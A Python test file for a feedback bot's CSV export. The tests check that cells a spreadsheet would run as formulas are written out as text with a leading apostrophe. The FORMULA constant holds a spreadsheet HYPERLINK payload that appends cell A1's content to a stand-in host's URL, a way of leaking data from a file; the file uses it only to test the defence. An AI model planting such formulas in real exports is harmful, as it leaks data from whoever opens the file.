"""Exported spreadsheets keep a citizen's text as text: a cell that a spreadsheet program
would run as a formula (=, +, -, @, tab, carriage return) is written with a leading `'`."""

from __future__ import annotations

import csv
import io
from zoneinfo import ZoneInfo

from handlers.feedback import (
    ContentDone,
    PickCategory,
    PickPlace,
    SendReport,
    SetAnonymous,
    SetUrgent,
)
from services.cells import inert
from services.db import utcnow
from services.users import Users
from tests.helpers import console_app, session, texts

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Xem ảnh")'


async def test_a_formula_in_a_report_stays_text_in_the_full_export(database_url: str) -> None:
    async with console_app(database_url) as app:
        person = session(app, name="@Hoa")
        for line in ("/start", "1", "1", "1"):
            await person.say(line)
        await person.press("menu:feedback")
        await person.press(PickCategory("roads").pack())
        await person.say(FORMULA)
        await person.press(ContentDone().pack())
        await person.press(PickPlace(None).pack())
        await person.press(SetUrgent(False).pack())
        await person.press(SetAnonymous(False).pack())
        assert "Mã theo dõi" in texts(await person.press(SendReport().pack()))
        async with app.db.transaction() as s:
            admin, _ = await Users(s).get_or_create("console", "admin")
            admin.onboarded = True
            await Users(s).grant_admin(admin)
        month = utcnow().astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).strftime("%Y-%m")
        shown = await session(app, "admin").say(f"/export {month} full 00000")
        [feedback_csv] = [m.data for m in shown if (m.filename or "").startswith("phan_anh")]
        [row] = list(csv.DictReader(io.StringIO(feedback_csv.decode("utf-8-sig"))))
        assert row["description"] == "'" + FORMULA
        assert row["reporter_name"] == "'@Hoa"
        assert row["category"] == "roads"


def test_inert_cells() -> None:
    assert [inert(v) for v in ("+84 912", "-1", "\tx", "\rx", "Đường", "", None, 5, -5)] == [
        "'+84 912", "'-1", "'\tx", "'\rx", "Đường", "", "", 5, -5]
